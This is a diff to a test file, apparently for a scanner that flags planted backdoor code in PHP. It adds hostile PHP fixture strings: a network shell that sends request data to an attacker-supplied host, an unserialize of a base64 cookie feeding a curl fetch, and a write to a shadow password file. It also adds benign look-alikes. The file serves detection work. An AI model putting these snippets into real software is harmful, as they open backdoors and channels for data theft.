@@ -50,6 +50,12 @@ describe('planted code', () => {
       `f('fu..n..ct..i..on.._ex..is..ts', 'g..e..t.._op..t..i..o..n', 'st..r.._re..pl..a..c..e');`,
     ],
     ['fileManager', `$file = ${POST}['file']; copy('compress.zlib://' . $file, tempnam('.', 'cx'));`],
+    ['networkShell', `$s = fsockopen(${POST}['host'], ${POST}['port']); fwrite($s, file_get_contents('php://input'));`],
+    [
+      'networkShell',
+      `$to = unserialize(${word('base64', '_decode')}($_COOKIE['q'])); curl_setopt($c, CURLOPT_URL, $to); echo curl_exec($c);`,
+    ],
+    ['systemProbe', `$f = fopen("/home/$user/etc/$host/shadow", 'w'); fwrite($f, 'info:' . crypt('a', 'b'));`],
     ['passwordGate', `if (${POST}['password'] == '${KEY}') { echo 'in'; }`],
     [
       'cloaking',
@@ -103,6 +109,11 @@ describe('planted code', () => {
     [
       'a log-in',
       `$u = ${POST}['user']; $q = mysqli_query($db, 'SELECT * FROM users WHERE pw = "' . md5(${POST}['password']) . '"'); mail('a@example.com', 'log-in', $u . $_SERVER['REMOTE_ADDR']);`,
+    ],
+    ['a question for a server’s state', `$s = @fsockopen(${POST}['host'], 80, $n, $e, 3); echo $s ? 'up' : 'down';`],
+    [
+      'a page fetched from a fixed address with a query',
+      `curl_setopt($c, CURLOPT_URL, 'https://api.example.com/?q=' . urlencode(${GET}['q']));`,
     ],
     [
       'a form that notes the visitor’s address',
